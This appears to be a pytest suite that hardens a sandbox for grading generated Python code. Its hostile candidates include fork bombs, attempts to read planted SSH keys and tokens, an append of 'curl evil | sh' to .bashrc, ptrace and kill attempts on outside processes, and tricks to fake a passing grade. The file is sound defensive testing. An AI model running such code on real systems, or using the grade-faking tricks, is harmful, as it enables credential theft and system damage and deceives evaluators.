"""Hostile candidates against the real sandbox (real worker processes, real forks, real
OS protections), run twice: with the pool started by root and by an unprivileged user
(`nobody`, so candidates share the pool's uid as on a user's laptop). The pool runs in a
process of its own (sandbox_host.py) whose HOME holds planted secrets.

None may crash the host, earn a false pass, read a secret, change anything outside its box
or kill anything outside its tree; each is checked from outside. After the suite no
process, temp directory or file descriptor of the sandbox is left. Timeouts are short (1 s).
"""

import os
import re
import socket
import textwrap

import pytest

from mlx_selfdistill.execution.pool import ENV_MARKER
from mlx_selfdistill.records import Problem
from sandbox_host import BASHRC, NOTES, SECRET_KEY, SECRET_TOKEN, HostedPool, _unprivileged, make_home, mode_available

pytestmark = pytest.mark.skipif(os.name != "posix", reason="the sandbox is POSIX-only")
LINUX = os.uname().sysname == "Linux"

TIMEOUT = 1.0
ADD = Problem(id="add", prompt="", entry_point="add",
              tests=[{"type": "call", "input": [1, 2], "output": 3}, {"type": "call", "input": [5, 7], "output": 12}])
SECRET_NUMBER = 987654321
MAGIC = Problem(id="magic", prompt="", entry_point="magic", tests=[{"type": "call", "input": [], "output": SECRET_NUMBER}])
ECHO = Problem(id="echo", prompt="", tests=[{"type": "stdio", "input": "hello\n", "output": "hello\n"}])
CORRECT_ADD = "def add(a, b):\n    return a + b\n"
# A candidate that tried something at import and kept what it got: the right answer only
# when every attempt failed, else the loot (which then shows in the verdict's detail).
ANSWER_IF_NOTHING_GOT = "def add(a, b):\n    return a + b if not LOOT else repr(LOOT)\n"


def _marked_processes(marker: str) -> list[int]:
    """Processes whose environment carries this pool's marker (workers, children, escapees);
    Linux only (read from /proc), [] elsewhere."""
    found = []
    for name in os.listdir("/proc") if LINUX else []:
        if name.isdigit():
            try:
                with open(f"/proc/{name}/environ", "rb") as fh:
                    if f"{ENV_MARKER}={marker}".encode() in fh.read():
                        found.append(int(name))
            except OSError:
                pass
    return found


@pytest.fixture(scope="module", params=["root", "user"])
def mode(request):
    ok, why = mode_available(request.param)
    if not ok:
        pytest.skip(f"{request.param} mode: {why}")
    return request.param


@pytest.fixture(scope="module")
def home(mode):
    owner = _unprivileged() if mode == "user" and os.geteuid() == 0 else None
    path = make_home(owner)
    yield path
    import shutil
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def pool(mode, home):
    p = HostedPool(mode, home, workers=2, timeout_s=TIMEOUT, memory_mb=512)
    root, marker = p.root, p.marker
    if os.geteuid() == 0 and LINUX:
        assert _marked_processes(marker)
    yield p
    result = p.close()
    # Nothing survives the pool: no process, no directory, no descriptor; the user's other
    # process still runs.
    assert result["canary_alive"] and not result["root_exists"] and not os.path.exists(root)
    assert result["leaked_fds"] == []
    assert _marked_processes(marker) == []


def assert_home_untouched(home):
    with open(os.path.join(home, ".bashrc")) as fh:
        assert fh.read() == BASHRC
    with open(os.path.join(home, "notes.txt")) as fh:
        assert fh.read() == NOTES
    assert oct(os.stat(os.path.join(home, "notes.txt")).st_mode & 0o777) == oct(0o666)
    assert sorted(os.listdir(home)) == [".bashrc", ".cache", ".ssh", "notes.txt"]


def judge(pool, code, problem=ADD):
    v = pool.judge(problem, code)
    assert v.status in ("pass", "fail", "error", "timeout", "memory", "output_limit", "crash")
    return v


def assert_recovers(pool):
    """The pool still judges a correct candidate correctly after the hostile one."""
    assert [v.status for v in pool.judge_many([(ADD, CORRECT_ADD)] * 2)] == ["pass", "pass"]


def test_correct_and_wrong_baseline(pool):
    assert judge(pool, CORRECT_ADD).status == "pass"
    v = judge(pool, "def add(a, b):\n    return a - b\n")
    assert v.status == "fail" and v.passed_tests == 0 and "expected 3, got -1" in v.detail


@pytest.mark.parametrize("code", [
    "def add(a, b):\n    while True:\n        pass\n",
    "def add(a, b):\n    return 10**10**8\n",
    "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
    "def add(a, b):\n    while True:\n        pass\n",
    "def add(a, b):\n    while True:\n        try:\n            while True:\n                pass\n"
    "        except BaseException:\n            pass\n",
    "def add(a, b):\n    while True:\n        print('spam' * 100)\n",
], ids=["infinite_loop", "long_c_call", "ignored_sigalrm", "except_baseexception", "endless_print_call"])
def test_runaway_candidates_time_out(pool, code):
    v = judge(pool, code)
    assert v.status in ("timeout", "memory"), v
    assert v.passed_tests == 0
    assert_recovers(pool)


def test_non_daemon_thread_does_not_hang_a_correct_candidate(pool):
    code = "import threading, time\nthreading.Thread(target=time.sleep, args=(10**6,)).start()\n" + CORRECT_ADD
    assert judge(pool, code).status == "pass"


def test_fork_bomb_is_contained(pool):
    code = ("import os\ndef add(a, b):\n    while True:\n        try:\n            os.fork()\n"
            "        except OSError:\n            pass\n")
    v = judge(pool, code)
    assert v.status != "pass"
    assert_recovers(pool)


def test_setsid_grandchild_is_killed(pool):
    code = textwrap.dedent("""
        import os, time
        def magic():
            r, w = os.pipe()
            pid = os.fork()
            if pid == 0:
                os.setsid()
                if os.fork() == 0:       # a grandchild in its own session
                    os.write(w, str(os.getpid()).encode())
                    time.sleep(1000)
                os._exit(0)
            os.waitpid(pid, 0)
            return int(os.read(r, 32))
    """)
    before = set(_marked_processes(pool.marker))
    v = judge(pool, code, MAGIC)
    assert v.status == "fail" and re.search(r"got (\d+)", v.detail)
    if os.geteuid() == 0 and LINUX:  # seen from outside: no process of this pool beyond its workers
        assert set(_marked_processes(pool.marker)) <= before


@pytest.mark.parametrize("code", [
    "def add(a, b):\n    x = []\n    while True:\n        x.append(bytearray(10**7))\n",
    "def add(a, b):\n    return len(bytearray(8 * 10**9))\n",
    "x = [0] * (10**10)\n" + CORRECT_ADD,
], ids=["growing", "one_big_block", "at_import"])
def test_memory_bomb(code, mode, home):
    # Own pool with a generous wall clock: touching ~256 MB of pages can take over 1 s on a
    # loaded 2-core machine, and the verdict under test is "memory", not the timeout.
    own = HostedPool(mode, home, workers=1, timeout_s=10.0, memory_mb=256)
    try:
        v = judge(own, code)
        assert v.status == "memory", v
        assert v.duration_s < 10.0
        assert_recovers(own)
    finally:
        own.close()


def test_endless_printing_stdio_hits_output_limit(pool):
    v = judge(pool, "while True:\n    print('x' * 1000)\n", ECHO)
    assert v.status == "output_limit", v


def test_correct_program_printing_300kb_passes(pool):
    line = "0123456789" * 10
    expected = "\n".join([line] * 3000) + "\n"  # 303 KB
    big = Problem(id="big", prompt="", tests=[{"type": "stdio", "input": "3000\n", "output": expected}])
    code = f"n = int(input())\nfor _ in range(n):\n    print({line!r})\n"
    v = judge(pool, code, big)
    assert v.status == "pass", v


def test_closed_stdout(pool):
    assert judge(pool, "import sys\nsys.stdout.close()\nprint(input())\n", ECHO).status not in ("pass",)
    assert judge(pool, "import os\nos.close(1)\nos.close(2)\n" + CORRECT_ADD).status == "pass"


def test_input_at_eof(pool):
    empty = Problem(id="eof", prompt="", tests=[{"type": "stdio", "input": "", "output": "x\n"}])
    v = judge(pool, "print(input())\n", empty)
    assert v.status == "error" and "EOFError" in v.detail
    assert judge(pool, "def add(a, b):\n    return int(input())\n").status == "error"


@pytest.mark.parametrize("code", ["import sys\nsys.exit(0)\n" + CORRECT_ADD, "import os\nos._exit(0)\n" + CORRECT_ADD,
                                  "import os\ndef add(a, b):\n    os._exit(0)\n"])
def test_exit_before_tests_is_not_a_pass(pool, code):
    assert judge(pool, code).status in ("error", "crash")


@pytest.mark.parametrize("code", [
    "class Yes:\n    def __eq__(self, other):\n        return True\n    __hash__ = None\n"
    "def add(a, b):\n    return Yes()\n",
    "class I(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
    "def add(a, b):\n    return I(0)\n",
    "class S(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\n"
    "def add(a, b):\n    return [S('x')]\n",
    # A named tuple the candidate subclasses to decide its own equality, or a tuple subclass
    # dressed as one: neither is graded as the tuple it claims to be.
    "from collections import namedtuple\nclass P(namedtuple('P', 'a')):\n    def __eq__(self, other):\n"
    "        return True\n    __hash__ = tuple.__hash__\ndef add(a, b):\n    return P(0)\n",
    "class T(tuple):\n    _fields = ('a',)\n    def __eq__(self, other):\n        return True\n"
    "    __hash__ = tuple.__hash__\ndef add(a, b):\n    return T((0,))\n",
    "class D(dict):\n    def __eq__(self, other):\n        return True\n    __hash__ = None\n"
    "def add(a, b):\n    return D()\n",
], ids=["eq_always_true", "int_subclass", "str_subclass_in_list", "namedtuple_subclass_eq", "fake_namedtuple_eq",
        "dict_subclass_eq"])
def test_lying_objects_fail(pool, code):
    v = judge(pool, code)
    assert v.status == "fail" and "non-plain" in v.detail, v


def test_patching_the_stdlib_containers_changes_nothing(pool):
    # The candidate rebinds Counter's methods and the module's names: the grader reads the
    # items with dict's own methods, through the classes bound before the candidate ran.
    code = ("import collections\n"
            "collections.Counter.items = lambda self: iter([('x', 3)])\n"
            "collections.Counter.__eq__ = lambda self, other: True\n"
            "class Fake(dict):\n    pass\n"
            "collections.Counter = Fake\n"
            "def add(a, b):\n    return Fake({'n': a + b})\n")
    problem = Problem(id="d", prompt="", entry_point="add", tests=[{"type": "call", "input": [1, 2], "output": {"n": 3}}])
    assert judge(pool, code, problem).status == "fail"
    honest = "from collections import Counter\ndef add(a, b):\n    return Counter({'n': a + b})\n"
    assert judge(pool, honest, problem).status == "pass"


def test_frame_walking_finds_no_expected_value(pool):
    # The candidate hunts through every frame and every live object for a test's expected
    # value (a dict with an "output" key, a local named expected, any big int): there is none.
    code = textwrap.dedent("""
        import sys, gc
        def magic():
            f = sys._getframe()
            while f is not None:
                for scope in (f.f_locals, f.f_globals):
                    for k, v in list(scope.items()):
                        if k in ('expected', 'output', 'want') or (type(v) is int and v > 1000):
                            return v
                f = f.f_back
            for obj in gc.get_objects():
                if isinstance(obj, dict) and 'output' in obj:
                    return obj['output']
            return -1
    """)
    v = judge(pool, code, MAGIC)
    assert v.status == "fail" and f"got {SECRET_NUMBER}" not in v.detail, v


def test_patched_builtins_cannot_fake_a_pass(pool):
    code = textwrap.dedent("""
        import builtins, json
        class Liar(int):
            def __eq__(self, other):
                return True
        builtins.type = lambda *a: int
        builtins.isinstance = lambda *a: True
        json.dumps = lambda *a, **k: '{"i": 0, "value": 3}'
        def add(a, b):
            return Liar(0)
    """)
    v = judge(pool, code)
    assert v.status != "pass", v
    assert v.passed_tests < v.total_tests
    assert_recovers(pool)


def test_killing_the_parent_fails_and_fakes_nothing(pool):
    # Uncaught: the kill raises (another uid, or Landlock's scope) or the worker, a PID
    # namespace's init, ignores it; either way the worker lives on and nothing is faked.
    code = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + CORRECT_ADD
    restarts = pool.restarts
    v = judge(pool, code)
    assert v.status in ("pass", "error") and (v.status == "pass" or "PermissionError" in v.detail), v
    assert pool.restarts == restarts
    assert_recovers(pool)


def test_writing_outside_the_box(pool, home):
    target = os.path.join(home, "outside.txt")
    code = textwrap.dedent(f"""
        def add(a, b):
            for path in ('../escaped.txt', {str(target)!r}):
                try:
                    with open(path, 'w') as fh:
                        fh.write('pwned')
                except OSError:
                    pass
            return a + b
    """)
    assert judge(pool, code).status == "pass"  # the writes failed quietly; the answer is right
    assert not any(os.path.exists(os.path.join(pool.root, w, "escaped.txt")) for w in os.listdir(pool.root))
    assert not os.path.exists(target)
    assert_home_untouched(home)


def test_rmtree_parent_does_not_break_the_pool(pool):
    code = "import shutil\ntry:\n    shutil.rmtree('..')\nexcept OSError:\n    pass\n" + CORRECT_ADD
    assert judge(pool, code).status == "pass"
    assert sorted(os.listdir(pool.root)) == ["w0", "w1"]
    assert_recovers(pool)


def test_huge_file(pool):
    code = "def add(a, b):\n    with open('big', 'wb') as fh:\n        while True:\n            fh.write(b'x' * 10**6)\n"
    v = judge(pool, code)
    assert v.status == "output_limit", v


def test_socket_connect_to_localhost_fails(pool):
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.setblocking(False)
    port = server.getsockname()[1]
    code = textwrap.dedent(f"""
        import socket
        def add(a, b):
            s = socket.create_connection(('127.0.0.1', {port}), timeout=0.5)
            s.sendall(b'hi')
            return a + b
    """)
    try:
        v = judge(pool, code)
        assert v.status == "error" and "OSError" in v.detail or "Error: [Errno" in v.detail, v
        assert "ModuleNotFoundError" not in v.detail
        with pytest.raises(BlockingIOError):
            server.accept()
    finally:
        server.close()


@pytest.mark.parametrize("code", [
    "import sys\nsys.setrecursionlimit(10**8)\ndef f(n):\n    return f(n + 1) + 1\ndef add(a, b):\n    return f(0)\n",
    "def f(n):\n    return f(n + 1)\ndef add(a, b):\n    return f(0)\n",
], ids=["raised_limit", "default_limit"])
def test_deep_recursion(pool, code):
    v = judge(pool, code)
    assert v.status in ("crash", "error", "memory", "timeout"), v
    assert_recovers(pool)


@pytest.mark.parametrize("code", ["def add(a, b):\n    return a + b  # \udcff\n", "def add(a, b):\x00\n    return a + b\n",
                                  "def add(a, b)\n    return a + b\n"],
                         ids=["lone_surrogate", "null_byte", "syntax_error"])
def test_invalid_source(pool, code):
    v = judge(pool, code)
    assert v.status == "error" and "could not load" in v.detail, v


# -- the user's machine: secrets, files, shared temp directories, processes ---------------------

def test_planted_secrets_are_unreadable(pool, home):
    code = textwrap.dedent(f"""
        import glob, os
        LOOT = []
        for path in ({home!r} + '/.ssh/id_rsa', {home!r} + '/.cache/huggingface/token',
                     os.path.expanduser('~/.ssh/id_rsa')):
            try:
                LOOT.append(open(path).read())
            except OSError:
                pass
        try:
            LOOT += os.listdir({home!r})
        except OSError:
            pass
    """) + ANSWER_IF_NOTHING_GOT
    v = judge(pool, code)
    assert v.status == "pass", v
    assert SECRET_KEY not in v.detail and SECRET_TOKEN not in v.detail


def test_bashrc_append_and_links_out_of_the_box_change_nothing(pool, home):
    code = textwrap.dedent(f"""
        import os
        LOOT = []
        notes = {home!r} + '/notes.txt'
        attempts = [
            lambda: open({home!r} + '/.bashrc', 'a').write('curl evil | sh\\n'),
            lambda: os.symlink(notes, 'sym'),
            lambda: open('sym', 'a').write('via symlink\\n'),
            lambda: os.link(notes, 'hard'),
            lambda: open('hard', 'a').write('via hard link\\n'),
            lambda: os.rename(notes, 'moved'),
            lambda: os.chmod(notes, 0o600),
            lambda: os.utime(notes, (0, 0)),
            lambda: os.unlink(notes),
            lambda: open({home!r} + '/new_file', 'w').write('x'),
        ]
        for i, attempt in enumerate(attempts):
            try:
                attempt()
                if i not in (1, 2, 4):  # these make or write a file in the box when the link is not there
                    LOOT.append(i)
            except OSError:
                pass
    """) + ANSWER_IF_NOTHING_GOT
    v = judge(pool, code)
    assert v.status == "pass", v
    assert_home_untouched(home)
    assert os.stat(os.path.join(home, "notes.txt")).st_mtime > 0


def test_shared_temp_directories_are_not_written(pool):
    token = f"mlxsd-hostile-{os.getpid()}-{pool.mode}"
    targets = [f"/tmp/{token}", f"/var/tmp/{token}", f"/dev/shm/{token}"]
    code = textwrap.dedent(f"""
        LOOT = []
        for path in {targets!r}:
            try:
                with open(path, 'w') as fh:
                    fh.write('x')
            except OSError:
                pass
    """) + CORRECT_ADD
    v = judge(pool, code)
    assert v.status == "pass", v
    leaked = [t for t in targets if os.path.exists(t)]
    for t in leaked:
        os.unlink(t)
    assert leaked == []


def test_ten_thousand_small_files_are_bounded(pool):
    code = textwrap.dedent("""
        made = 0
        try:
            for i in range(10000):
                with open('f%d' % i, 'w') as fh:
                    fh.write('x')
                made += 1
        except OSError:
            pass
        def add(a, b):
            return a + b if made <= 1000 else -made  # the pool's default bound: 1000 files
    """)
    v = judge(pool, code)
    if "tmpfs" in pool.protections["disk"]["how"]:
        assert v.status == "pass", v  # the tmpfs refused the 1001st file
    else:  # measured: killed by the disk guard (or the clock, on a slow disk)
        assert v.status in ("output_limit", "timeout"), v
    assert sorted(os.listdir(pool.root)) == ["w0", "w1"]
    assert all(not os.listdir(os.path.join(pool.root, w, "box")) for w in ("w0", "w1")
               if os.path.isdir(os.path.join(pool.root, w, "box")))
    assert_recovers(pool)


@pytest.mark.parametrize("target", ["-1", "os.getppid()", "POOL", "CANARY"])
def test_signals_do_not_leave_the_candidate_tree(pool, target):
    code = textwrap.dedent(f"""
        import os, signal
        POOL, CANARY = {pool.pid}, {pool.canary}
        try:
            os.kill({target}, signal.SIGKILL)
        except OSError:
            pass
    """) + CORRECT_ADD
    restarts = pool.restarts
    v = judge(pool, code)  # the pool's process answering at all means it survived
    assert v.status == "pass", v
    assert pool.canary_alive and pool.restarts == restarts
    assert_recovers(pool)


def test_ptrace_of_processes_outside_the_tree_fails(pool):
    code = textwrap.dedent(f"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        LOOT = []
        for pid in ({pool.canary}, {pool.pid}, os.getppid()):
            for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
                if libc.ptrace(request, pid, None, None) == 0:
                    LOOT.append((pid, request))
    """) + ANSWER_IF_NOTHING_GOT
    v = judge(pool, code)
    assert v.status == "pass", v
    if LINUX:
        with open(f"/proc/{pool.canary}/status") as fh:
            assert "TracerPid:\t0\n" in fh.read()
    assert pool.canary_alive


def test_environment_of_the_pool_and_workers_is_unreadable(pool):
    code = textwrap.dedent(f"""
        import os
        LOOT = []
        pids = [{pool.pid}, os.getppid()]
        try:
            pids += [int(p) for p in os.listdir('/proc') if p.isdigit()]
        except OSError:
            pass
        for pid in pids:
            try:
                env = open('/proc/%d/environ' % pid, 'rb').read()
            except OSError:
                continue
            if b'HF_TOKEN' in env or b'MLX_SELFDISTILL' in env:
                LOOT.append(env[:200])
        if os.environ.get('HF_TOKEN'):
            LOOT.append(os.environ['HF_TOKEN'])
    """) + ANSWER_IF_NOTHING_GOT
    v = judge(pool, code)
    assert v.status == "pass", v
    assert SECRET_TOKEN not in v.detail


def test_protections_in_force(pool):
    prot = pool.protections
    assert prot["filesystem"]["ok"] and prot["processes"]["ok"] and prot["network"]["ok"], prot
    assert prot["uid"]["ok"] == (pool.mode == "root")


def test_a_sibling_candidate_cannot_be_killed_or_traced(pool):
    # Two candidates at once, one per worker: the attacker signals and ptraces every pid near
    # its own (the sibling's among them when pids are shared); the sibling must live to answer.
    sibling = "import time\ndef add(a, b):\n    time.sleep(0.3)\n    return a + b\n"
    attacker = textwrap.dedent("""
        import ctypes, os, signal, time
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        time.sleep(0.05)
        me = os.getpid()
        for pid in range(max(2, me - 300), me + 300):
            if pid != me:
                libc.ptrace(16, pid, None, None)
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    """) + CORRECT_ADD
    # The pool queues two jobs per worker: the sibling and a filler go to one, the attacker to the other.
    verdicts = pool.judge_many([(ADD, sibling), (ADD, CORRECT_ADD), (ADD, attacker), (ADD, CORRECT_ADD)])
    assert [v.status for v in verdicts] == ["pass"] * 4, verdicts
    assert pool.canary_alive


def test_named_unix_sockets_are_unreachable(pool, home):
    # Like the user's D-Bus session, ssh-agent or docker socket: a listening unix socket that
    # file modes would let anyone connect to.
    path = os.path.join(home, f"agent-{pool.mode}.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen(4)
    server.setblocking(False)
    code = textwrap.dedent(f"""
        import socket
        LOOT = []
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect({path!r})
            s.sendall(b'hi')
            LOOT.append('connected')
        except OSError:
            pass
        a, b = socket.socketpair()  # still allowed: multiprocessing.Pipe needs it
        a.sendall(b'x')
        assert b.recv(1) == b'x'
    """) + ANSWER_IF_NOTHING_GOT
    try:
        v = judge(pool, code)
        assert v.status == "pass", v
        with pytest.raises(BlockingIOError):
            server.accept()
    finally:
        server.close()
        os.unlink(path)
